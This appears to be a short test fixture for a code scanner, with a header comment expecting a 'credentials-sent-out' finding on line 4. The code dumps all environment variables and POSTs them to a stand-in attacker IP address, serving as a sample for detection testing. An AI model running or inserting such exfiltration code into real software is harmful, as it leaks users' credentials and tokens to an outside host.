# expect: 4 credentials-sent-out
import os, json, urllib.request
data = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen(urllib.request.Request('http://198.51.100.7/c', data=data))
